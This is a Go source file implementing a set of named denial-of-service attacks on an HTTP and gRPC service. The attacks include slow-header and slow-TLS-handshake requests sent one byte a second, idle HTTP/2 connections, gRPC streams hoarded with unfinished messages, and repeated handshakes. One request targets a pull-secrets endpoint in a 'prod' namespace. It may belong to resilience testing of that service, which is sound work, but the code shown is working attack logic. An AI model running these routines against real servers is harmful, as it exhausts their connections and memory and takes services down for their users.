package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
)

// reopen is how long an attacker that holds connections waits before it makes one anew that was closed.
const reopen = 10 * time.Second

// attacks are what each worker of an attack does, by name.
func attacks() map[string]func(ctx context.Context, a *attacker, worker int) {
	type one = func(ctx context.Context, a *attacker, worker int)
	hold := func(to func(*attacker) string, protocol string, then func(context.Context, net.Conn) error) one {
		return func(ctx context.Context, a *attacker, _ int) {
			again(ctx, reopen, func() { a.hold(ctx, to(a), protocol, then) })
		}
	}
	http, grpc := func(a *attacker) string { return a.HTTP }, func(a *attacker) string { return a.GRPC }
	all := map[string]one{
		"slow-headers":   hold(http, "http/1.1", slowHeaders),
		"slow-handshake": hold(http, "", slowHandshake),
		"idle-tcp":       hold(http, "", idle),
		"idle-tls":       hold(http, "http/1.1", idle),
		"idle-http2":     hold(http, "h2", idleHTTP2),
		"idle-grpc":      hold(grpc, "h2", idleHTTP2),
		"hoard-grpc":     hold(grpc, "h2", hoard),
		"handshakes": func(ctx context.Context, a *attacker, _ int) {
			again(ctx, 0, func() {
				a.tried.Add(1)
				if _, closed, err := a.secured(ctx, nil, a.HTTP, "http/1.1"); err == nil {
					closed()
				}
			})
		},
	}
	for name, run := range requests() {
		all[name] = run
	}
	for name, run := range frames() {
		all[name] = run
	}
	return all
}

// hold opens a connection, with TLS if there is a protocol, and keeps it for as long as the other end does.
func (a *attacker) hold(ctx context.Context, to, protocol string, then func(context.Context, net.Conn) error) {
	select {
	case opening <- struct{}{}:
	case <-ctx.Done():
		return
	}
	var c net.Conn
	var closed func()
	var err error
	a.tried.Add(1)
	if protocol == "" {
		c, closed, err = a.dial(ctx, nil, to)
	} else {
		c, closed, err = a.secured(ctx, nil, to, protocol)
	}
	<-opening
	if err != nil {
		return
	}
	defer closed()
	if err := then(ctx, c); err != nil && ctx.Err() == nil {
		a.outcome(ended(err))
	}
}

// idle says nothing.
func idle(_ context.Context, c net.Conn) error {
	if _, err := io.Copy(io.Discard, c); err != nil {
		return err
	}
	return io.EOF
}

// idleHTTP2 says hello, and nothing more.
func idleHTTP2(ctx context.Context, c net.Conn) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	if err := http2.NewFramer(c, nil).WriteSettings(); err != nil {
		return err
	}
	return idle(ctx, c)
}

// hoard sends messages of gRPC that lack their end, as much of them as is taken from somebody who has not authenticated.
func hoard(ctx context.Context, c net.Conn) error {
	s := newSession(c, true)
	if err := s.greet(); err != nil {
		return err
	}
	message := make([]byte, 14<<10)
	binary.BigEndian.PutUint32(message[1:], 60<<10)
	for range 6 {
		if err := s.open(false, s.headers(random())); err != nil {
			return err
		}
		if err := s.framer.WriteData(s.stream, false, message); err != nil {
			return err
		}
	}
	if err := s.out.Flush(); err != nil {
		return err
	}
	return idle(ctx, c)
}

// slowHeaders sends a request one byte a second.
func slowHeaders(ctx context.Context, c net.Conn) error {
	return slowly(ctx, c, []byte("GET /v1/pullsecrets/puller?namespace=prod HTTP/1.1\r\nHost: quaygen\r\nX: "))
}

// slowHandshake begins a handshake of TLS one byte a second: the head of a record of 512 bytes, and zeros.
func slowHandshake(ctx context.Context, c net.Conn) error {
	return slowly(ctx, c, []byte{22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3})
}

func slowly(ctx context.Context, c net.Conn, head []byte) error {
	gone := make(chan error, 1)
	go func() { gone <- idle(ctx, c) }()
	ticker := time.NewTicker(time.Second)
	defer ticker.Stop()
	for {
		next := []byte{'x'}
		if len(head) > 0 {
			next, head = head[:1], head[1:]
		}
		if _, err := c.Write(next); err != nil {
			return err
		}
		select {
		case err := <-gone:
			return err
		case <-ticker.C:
		}
	}
}
